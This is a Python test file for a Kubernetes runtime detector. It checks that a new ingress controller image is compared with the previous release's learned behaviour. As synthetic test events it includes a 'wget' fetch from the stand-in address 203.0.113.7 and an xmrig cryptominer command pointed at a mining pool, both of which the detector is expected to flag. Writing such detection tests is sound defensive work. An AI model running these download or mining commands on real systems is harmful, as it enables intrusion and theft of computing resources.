"""Release drift (issue 19 item 4): a workload's new image is compared with its previous release's profile.

The seed's own case: a trusted ingress controller is updated by its CI to a new image. A benign release
that adds a few programs gives one low-severity "behaviour changed with release" notice that one edit
accepts; a compromised release that also mines tells a story saying which release brought it, who rolled
it out and what the previous release never did. Events are made by the sensors' own code (tests/shapes.py).
"""

from __future__ import annotations

import datetime

from schemas.records import ProfileEdit, ProfileEditOp, Severity
from schemas.settings import Settings
from tests.shapes import T0, Node, Pod, S, Stages

OLD, NEW = "ghcr.io/acme/ingress:3.3.1", "ghcr.io/acme/ingress:3.4.0"
KEY = "prod/ingress/Deployment/ingress"


def _stages() -> Stages:
    settings = Settings(cluster="prod")
    settings.detect.learning_window_s = 60
    return Stages(settings)


def _learned(node: Node, stages: Stages) -> None:
    """Release 3.3.1 runs for a learning window: its controller and nginx, a backend connection."""
    old = node.pod(
        "ingress", "ingress-6f7c9-aaaaa", owner=("ReplicaSet", "ingress-6f7c9"), ip="10.244.1.60",
        containers={"controller": OLD},
    )  # fmt: skip
    init = node.process(old, "controller", comm="dumb-init")
    ctl, ctl_exec = node.exec(
        init, "/usr/bin/ingress-controller", ["/usr/bin/ingress-controller", "--v=2"], at=1
    )
    nginx = node.exec(ctl, "/usr/sbin/nginx", ["nginx", "-c", "/etc/nginx/nginx.conf"], at=2)[1]
    stages.feed([ctl_exec, nginx, node.connect(ctl, old.ip, ("10.96.5.5", 8080), at=3)])
    stages.feed(
        [node.exec(ctl, "/usr/sbin/nginx", ["nginx", "-c", "/etc/nginx/nginx.conf"], at=61)[1]]
    )  # learning ends
    assert stages.alerts == []
    assert stages.detector.profiles[f"{KEY}|controller"].image == OLD


def _rollout(node: Node, at: float) -> tuple[Pod, bytes]:
    """ci-bot sets the new image on the Deployment (kubectl set image), and its new pod starts."""
    patch = node.api(
        "ci-bot",
        "patch",
        "deployments",
        at=at,
        namespace="ingress",
        name="ingress",
        api_group="apps",
        request_object={
            "spec": {"template": {"spec": {"containers": [{"name": "controller", "image": NEW}]}}}
        },
        user_agent="kubectl/v1.31.0",
    )
    new = node.pod(
        "ingress", "ingress-8d2f4-bbbbb", owner=("ReplicaSet", "ingress-8d2f4"), ip="10.244.1.61",
        containers={"controller": NEW},
    )  # fmt: skip
    return new, patch


def test_a_benign_release_is_one_low_notice_that_one_edit_accepts() -> None:
    node, stages = Node(), _stages()
    _learned(node, stages)
    new, patch = _rollout(node, 100)
    init = node.process(new, "controller", comm="dumb-init")
    ctl, ctl_exec = node.exec(
        init, "/usr/bin/ingress-controller", ["/usr/bin/ingress-controller", "--v=2"], at=110
    )
    stages.feed(
        [
            patch,
            ctl_exec,
            node.exec(ctl, "/usr/sbin/nginx", ["nginx", "-c", "/etc/nginx/nginx.conf"], at=111)[1],
            node.exec(ctl, "/usr/bin/lua-resty-gc", ["lua-resty-gc", "--interval=60"], at=112)[1],
            node.exec(ctl, "/usr/bin/certwatch", ["certwatch", "/etc/certs"], at=113)[1],
            node.connect(ctl, new.ip, ("10.96.5.5", 8080), at=114),
            node.exec(ctl, "/usr/bin/certwatch", ["certwatch", "/etc/certs"], at=200)[1],  # no news
        ]
    )
    # (the audit rules judge the patch itself; what matters here is what the containers did)
    runtime = [a for a in stages.alerts if a.event is not None and a.event.source == "ebpf"]
    assert {a.rule_id for a in runtime} == {"CADR-REL-0001"}, [(a.rule_id, a.message) for a in runtime]
    assert len({a.alert_id for a in runtime}) == 1  # one notice, updated: not a storm
    notice = runtime[-1]
    assert notice.severity is Severity.LOW and notice.count == 2
    assert "/usr/bin/lua-resty-gc" in notice.message and "/usr/bin/certwatch" in notice.message
    assert "replaced 3.3.1, rolled out by ci-bot at" in notice.message
    profile = stages.detector.profiles[f"{KEY}|controller"]
    assert profile.release is not None and (profile.release.image, profile.release.by) == (NEW, "ci-bot")
    (story,) = [s for s in stages.stories() if any(a.rule_id == "CADR-REL-0001" for a in s.alerts)]
    assert story.severity is Severity.LOW and len(story.alerts) == 1 and story.alerts[0].count == 2

    # a person accepts the release: its programs join the profile, the new image is the baseline
    stages.detector.baselines.apply_edit(
        ProfileEdit(
            edit_id="e1",
            time=T0 + 300 * S,
            op=ProfileEditOp.ACCEPT_RELEASE,
            workload_key=KEY,
            container="controller",
        )
    )
    accepted = stages.detector.profiles[f"{KEY}|controller"]
    assert accepted.image == NEW and accepted.release is None and "/usr/bin/certwatch" in accepted.execs
    before = len(stages.alerts)
    stages.feed(
        [
            node.exec(ctl, "/usr/bin/lua-resty-gc", ["lua-resty-gc", "--interval=60"], at=400)[1],
            node.exec(ctl, "/usr/bin/certwatch", ["certwatch", "/etc/certs"], at=401)[1],
        ]
    )
    assert stages.alerts[before:] == []
    # and the new baseline still catches what neither release did
    stages.feed([node.exec(ctl, "/usr/bin/wget", ["wget", "-q", "http://203.0.113.7/x"], at=402)[1]])
    assert "CADR-ANOM-0001" in {a.rule_id for a in stages.alerts[before:]}


def test_a_compromised_release_tells_a_story_that_says_so() -> None:
    node, stages = Node(), _stages()
    _learned(node, stages)
    new, patch = _rollout(node, 100)
    init = node.process(new, "controller", comm="dumb-init")
    ctl, ctl_exec = node.exec(
        init, "/usr/bin/ingress-controller", ["/usr/bin/ingress-controller", "--v=2"], at=110
    )
    miner, miner_exec = node.exec(
        ctl, "/usr/bin/xmrig", ["xmrig", "--donate-level=1", "-o", "45.32.12.7:3333"], at=115
    )
    stages.feed([patch, ctl_exec, miner_exec, node.connect(miner, new.ip, ("45.32.12.7", 3333), at=116)])
    (story,) = [s for s in stages.stories() if any(a.rule_id == "CADR-REL-0001" for a in s.alerts)]
    rules = {a.rule_id for a in story.alerts}
    assert {"CADR-REL-0001", "CADR-PROC-0005", "CADR-NET-0004"} <= rules, rules
    assert "CADR-ANOM-0001" not in rules and "CADR-ANOM-0005" not in rules  # told by the notice instead
    assert story.severity.rank >= Severity.HIGH.rank
    at = datetime.datetime.fromtimestamp((T0 + 100 * S) / 1e9, tz=datetime.UTC).strftime("%H:%M")
    assert f"since {NEW} replaced 3.3.1, rolled out by ci-bot at {at} UTC" in story.summary
    assert (
        "controller runs a new program /usr/bin/xmrig and connects to 45.32.12.7:3333, which 3.3.1 never did"
        in story.summary
    )
    assert [w.pod for w in story.workloads] == ["ingress-8d2f4-bbbbb"]


def test_the_rollout_told_after_the_first_new_event_still_names_who() -> None:
    node, stages = Node(), _stages()
    _learned(node, stages)
    new, patch = _rollout(node, 100)
    _, ctl_exec = node.exec(node.process(new, "controller"), "/usr/bin/certwatch", ["certwatch"], at=101)
    stages.feed([ctl_exec])  # the audit event comes late
    assert stages.detector.profiles[f"{KEY}|controller"].release.by == ""  # type: ignore[union-attr]
    stages.feed([patch])
    assert stages.detector.profiles[f"{KEY}|controller"].release.by == "ci-bot"  # type: ignore[union-attr]
